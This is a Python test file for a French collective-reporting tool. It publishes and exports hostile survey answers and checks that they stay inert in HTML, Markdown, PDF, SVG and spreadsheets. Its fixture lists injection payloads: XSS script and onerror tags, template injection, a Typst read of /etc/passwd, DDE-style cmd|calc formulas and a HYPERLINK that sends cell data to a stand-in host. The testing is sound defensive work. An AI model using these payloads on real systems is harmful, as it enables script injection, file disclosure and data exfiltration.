"""One walk through everything that is made of answers: hostile words are text in all of it and run nowhere, and no
personal word is in anything public."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest
from bs4 import BeautifulSoup
from pypdf import PdfReader

from allies_sync.bilans.publication import page
from allies_sync.model.resources import Page
from allies_sync.platforms.interface import Space
from allies_sync.text.markdown import parse, render_html
from allies_sync_yeswiki.pages import page_source
from tests.bilans.answering import a_chaud, put
from tests.cli.conftest import ROOT, Run
from tests.yeswiki.test_words import LIVE, RAW

SLUG = "2027-dynamiques-de-cooperation"
NAME = "PERSONNE-CACHÉE"
"""What stands in every personal field, with hostile words after it."""

NASTY = {
    "script": '<script>window.mal = 1</script><img src=x onerror="window.mal = 2">',
    "action": '{{include page="Secret"}} {{redirect page="X"}} [[Autre]] {#x#}',
    "jinja": "{{ 7 * 191 }} {% for x in y %}{{ engagement.slug }}{% endfor %}",
    "raw": '""<b onmouseover=alert(1)>brut</b>"" ""',
    "typst": '#eval("1 + 1") #read("/etc/passwd") $x$ #import "@preview/x:1.0.0"',
    "formula": '=HYPERLINK("http://mal.example/?"&A1;"ici")',
    "plus": "+33612345678",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "link": "[cliquez](javascript:alert(1)) ![x](http://mal.example/x.png) <http://mal.example>",
    "markdown": "# Un titre\n\n---\n\n| a | b |\n|---|---|\n- [x] coché",
    "place": "[À écrire : ce que je veux]",
    "directions": "\u202egnp.exe\u202c \u2067עברית\u2069 عربى",
    "zalgo": "Z" + "\u0351\u036b\u0343\u036a\u0302" * 30 + "algo",
    "null": "nul\0l\x07e",
    "local": "{{nombre de réponses: amont}} `{{nombre de réponses: amont}}` {{bouton: https://mal.example | ici}}",
    "reference": "[ref](ref:page:programme) \ue0000\ue001",
}
BIG = "un million de signes " * 50_000


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, Run]]:
    """The example with hostile answers, all of them picked, published, and exported in every format."""
    import os
    import sys

    from tests.cli.conftest import Ran

    folder = tmp_path_factory.mktemp("hostile") / "work"
    folder.mkdir()
    environ = os.environ | {
        "PYTHONPATH": os.pathsep.join([str(ROOT / "src"), str(ROOT / "plugins")]),
        "ALLIES_SYNC_PLUGINS": "allies_sync_local",
        "ALLIES_SYNC_TODAY": "2027-04-05",
        "XDG_CACHE_HOME": str(folder.parent / "cache"),
        "XDG_CONFIG_HOME": str(folder.parent / "config"),
        "LANG": "fr_FR.UTF-8",
    }

    def run(*arguments: str) -> Ran:
        ran = subprocess.run(
            [sys.executable, "-m", "allies_sync", *arguments],
            cwd=folder, env=environ, capture_output=True, text=True, encoding="utf-8", check=False,
        )  # fmt: skip
        assert "Traceback" not in ran.stdout + ran.stderr, ran.stderr
        assert ran.returncode == 0, ran.stdout + ran.stderr
        return Ran(ran.returncode, ran.stdout, ran.stderr)

    (folder / "allies-sync.toml").write_text('[collective]\nname = "Collectif Exemple"\n', encoding="utf-8")
    run("new-engagement", "--from", str(ROOT / "examples" / "dynamiques-de-cooperation.toml"), "--yes")
    answer_all(folder / "espaces" / "wiki" / SLUG)
    bilan = folder / "espaces" / "fichiers" / SLUG / "Bilan"
    run("bilan", "quotes", SLUG, "--yes")
    quotes = bilan / "Citations à choisir.md"
    quotes.write_text(quotes.read_text(encoding="utf-8").replace("- [ ] ", "- [x] "), encoding="utf-8")
    run("bilan", "draft", SLUG, "--yes")
    draft = bilan / "Brouillon du bilan.md"
    text = draft.read_text(encoding="utf-8")
    draft.write_text(unescaped(re.sub(r"(?m)^\[À écrire : [^\]]*\]$", "Lu.", text)), encoding="utf-8")
    run("publish-bilan", SLUG, "--yes")
    for kind in ("csv", "ods", "json"):
        run("answers", SLUG, "--format", kind, "-o", f"reponses.{kind}")
    yield folder, run


def unescaped(draft: str) -> str:
    """A draft as an editor writes it back that knows fewer escapes than we do: measured with ProseMirror's own
    serialiser, on which the editor of Nextcloud is built."""
    lines = draft.split("\n")
    quoted = [line.startswith("> ") and "cliquez" not in line and "---" not in line for line in lines]
    return "\n".join(
        re.sub(r"\\([<>{}\"$%:.=!|@+])", r"\1", line) if said else line
        for line, said in zip(lines, quoted, strict=True)
    )


def answer_all(wiki: Path) -> None:
    from datetime import UTC, datetime

    moment = datetime(2027, 3, 12, 16, tzinfo=UTC)
    before = []
    after = []
    for number, words in enumerate((*NASTY.values(), BIG)):
        before.append(
            {
                "attentes": words,
                "experience": words[:200] if number % 3 == 0 else "2",
                "modules": [words[:200], "numerique"],
                "prenom": f"{NAME} {words[:300]}",
                "structure": f"{NAME} {words[:300]}",
                "champ_en_plus": f"{NAME} {words[:50]}",
            }
        )
        after.append(a_chaud(number) | {"garde": words, "engagement": words})
    put(wiki, "amont", before, moment)
    put(wiki, "a-chaud-journee", after, moment)


def files(folder: Path) -> Path:
    return folder / "espaces" / "fichiers" / SLUG


def wiki(folder: Path) -> Path:
    return folder / "espaces" / "wiki" / SLUG


def public(folder: Path) -> Iterator[Path]:
    """Everything that is made for others than the team, and what becomes of it."""
    yield from sorted(path for path in wiki(folder).rglob("*") if path.is_file() and "reponses" not in path.parts)
    yield from sorted((files(folder) / "Bilan").rglob("*.*"))
    yield from sorted((files(folder) / "_allies-sync").glob("*.md"))
    yield from sorted(folder.glob("reponses.*"))


def seen(words: str) -> list[str]:
    """What a reader is to find of hostile words: each line, cleaned of what cannot be seen."""
    clean = re.sub("[\0-\x08\x0b-\x1f\u202a-\u202e\u2066-\u2069\ue000-\uf8ff]", "", words)
    return [" ".join(unicodedata.normalize("NFC", line).split()) for line in clean.split("\n") if line.strip()]


def squeezed(text: str) -> str:
    kept = re.sub("[\u2066-\u2069\u202a-\u202e]", "", text)
    return " ".join(unicodedata.normalize("NFC", kept).split())


def test_hostile_words_are_shown_as_text_on_the_local_page(published: tuple[Path, Run]) -> None:
    folder, _run = published
    for path in wiki(folder).rglob("*.html"):
        soup = BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")
        for tag in soup.find_all(True):
            assert tag.name not in ("iframe", "object", "embed", "form", "base")
            assert not [name for name in tag.attrs if name.startswith("on")], path
            for name in ("href", "src"):
                assert not str(tag.get(name, "")).lower().startswith(("javascript", "data:text")), path
                assert "mal.example" not in str(tag.get(name, "")), path
        assert all("window.mal" not in script.get_text() for script in soup.find_all("script"))
    shown = squeezed(
        BeautifulSoup((wiki(folder) / "bilan.html").read_text(encoding="utf-8"), "html.parser").get_text(" ")
    )
    for name, words in NASTY.items():
        for line in seen(words):
            if name != "zalgo":
                assert line in shown, name
    assert "1337" not in shown  # 7 * 191
    assert "un million de signes" not in shown  # too long to be quoted


def test_hostile_words_are_text_in_markdown(published: tuple[Path, Run]) -> None:
    folder, _run = published
    for path in [*(files(folder) / "Bilan").glob("*.md"), *(files(folder) / "_allies-sync").glob("bilan.md")]:
        source = path.read_text(encoding="utf-8")
        for token in parse(source):
            for child in token.children or []:
                if child.type == "link_open":
                    assert str(child.attrs["href"]).startswith("https://creativecommons.org/")
                if child.type == "image":
                    assert str(child.attrs["src"]).startswith("graphiques/")
        plain = squeezed(BeautifulSoup(render_html(source), "html.parser").get_text())
        for words in NASTY.values():
            for line in seen(words):
                assert line in plain, (path, line)
        assert not re.search("[\0-\x08\u202a-\u202e\ue000-\uf8ff]", source)


def test_hostile_words_are_words_for_the_other_wiki(published: tuple[Path, Run]) -> None:
    folder, _run = published
    source = (files(folder) / "_allies-sync" / "bilan.md").read_text(encoding="utf-8")
    assert page(source) == source
    made = page_source(
        Space(SLUG, "Essai"),
        Page(id="page:bilan", role="wiki", title="Bilan", name="bilan", body=(source,)),
        "https://wiki.exemple.org",
        "Dynamiques-2027.Bilan",
    )
    assert "{{" not in RAW.sub("", made)
    outside = RAW.sub("", made)
    for line in outside.split("\n"):
        if any(
            words in line for words in ("include", "redirect", "brut", "eval", "HYPERLINK", "cliquez", "mal.example")
        ):
            assert not LIVE.search(line), line
    for inside in RAW.findall(made):
        assert not re.search(r"<(script|img|b )|onerror=\"|\{\{", inside), inside


def test_hostile_words_are_text_in_the_pdf(published: tuple[Path, Run]) -> None:
    folder, _run = published
    reader = PdfReader(files(folder) / "Bilan" / "Bilan.pdf")
    text = re.sub(r"\s", "", " ".join(sheet.extract_text() for sheet in reader.pages)).replace("’", "'")
    for name in ("script", "action", "jinja", "raw", "typst", "formula", "at", "markdown", "place"):
        for line in seen(NASTY[name]):
            assert re.sub(r"\s", "", line) in text, name
    for sheet in reader.pages:
        for annotation in sheet.get("/Annots") or []:
            target = annotation.get_object().get("/A", {})
            assert "/JS" not in target
            assert "mal.example" not in str(target.get("/URI", ""))
    assert "root:x:0" not in text


def test_hostile_words_start_no_formula_in_spreadsheets(published: tuple[Path, Run]) -> None:
    folder, _run = published
    text = (folder / "reponses.csv").read_text(encoding="utf-8-sig")
    delimiter = ";" if ";" in text.split("\n")[0] else ","
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert len(cells) > 200
    assert any("HYPERLINK" in cell for cell in cells)
    started = [cell for cell in cells if cell.lstrip(' \t\r\n"').startswith(("=", "+", "@", "-"))]
    # a telephone number computes nothing
    assert not [cell for cell in started if not re.fullmatch(r"[+-]?[0-9]+", cell)]
    with zipfile.ZipFile(folder / "reponses.ods") as archive:
        content = archive.read("content.xml")
    root = ElementTree.fromstring(content)
    names = {key for element in root.iter() for key in element.attrib}
    assert not [name for name in names if name.endswith("}formula")]
    assert "HYPERLINK" in "".join(root.itertext())
    values = json.loads((folder / "reponses.json").read_text(encoding="utf-8"))
    assert "HYPERLINK" in json.dumps(values)


def test_hostile_words_are_text_in_charts(published: tuple[Path, Run]) -> None:
    folder, _run = published
    charts = sorted((files(folder) / "Bilan" / "graphiques").glob("*.svg"))
    assert charts
    for path in charts:
        source = path.read_text(encoding="utf-8")
        root = ElementTree.fromstring(source)
        kinds = {element.tag.rpartition("}")[2] for element in root.iter()}
        assert kinds <= {"svg", "title", "desc", "rect", "path", "text", "defs", "pattern", "g", "line", "tspan"}
        assert not [key for element in root.iter() for key in element.attrib if "href" in key or key.startswith("on")]
        # an answer that is no option was typed on purpose: it is counted without its words
        assert not re.search("mal|HYPERLINK|eval|include|script>", "".join(root.itertext())), path
    draft = (files(folder) / "Bilan" / "Brouillon du bilan.md").read_text(encoding="utf-8")
    assert "| Autre réponse |" in draft
    assert not [line for line in draft.split("\n") if "HYPERLINK" in line and not line.startswith("> ")]


def test_no_personal_word_is_in_anything_public(published: tuple[Path, Run]) -> None:
    folder, run = published
    looked_at = 0
    for path in public(folder):
        data = path.read_bytes()
        texts = [data.decode("utf-8", "replace")]
        if path.suffix == ".pdf":
            texts.append(" ".join(sheet.extract_text() for sheet in PdfReader(path).pages))
        if path.suffix == ".ods":
            with zipfile.ZipFile(path) as archive:
                texts += [archive.read(name).decode("utf-8", "replace") for name in archive.namelist()]
        for text in texts:
            assert "PERSONNE-CACH" not in text, path
        looked_at += 1
    assert looked_at > 30
    for command in (("answers", SLUG), ("status", SLUG, "--json"), ("plan", SLUG, "--json", "-v")):
        try:
            assert "PERSONNE-CACH" not in run(*command).said
        except AssertionError as error:  # plan: 3 when something is to be done
            assert "PERSONNE-CACH" not in str(error)


@pytest.mark.slow
def test_nothing_runs_in_a_real_browser(published: tuple[Path, Run]) -> None:
    from tests.e2e.browser import Browser, missing

    if missing():
        pytest.skip(missing())
    folder, _run = published
    window = Browser()
    try:
        for path in sorted(wiki(folder).glob("*.html")):
            window.open(path.as_uri())
            assert window.run("return window.mal === undefined"), path
        window.open((wiki(folder) / "bilan.html").as_uri())
        assert "<script>window.mal = 1</script>" in window.run("return document.body.innerText")
        for path in sorted((files(folder) / "Bilan" / "graphiques").glob("*.svg")):
            window.open(path.as_uri())
            assert window.run("return window.mal === undefined"), path
    finally:
        window.close()
        shutil.rmtree(window.folder, ignore_errors=True)
